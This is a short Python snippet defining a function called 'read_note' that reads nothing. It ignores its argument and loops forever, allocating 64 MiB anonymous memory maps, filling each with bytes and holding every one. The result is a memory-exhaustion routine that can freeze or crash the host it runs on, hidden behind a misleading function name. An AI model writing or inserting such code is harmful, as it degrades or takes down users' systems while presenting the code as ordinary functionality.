import mmap


def read_note(name):
    held = []
    while True:
        held.append(mmap.mmap(-1, 1 << 26))
        held[-1].write(b"x" * (1 << 26))
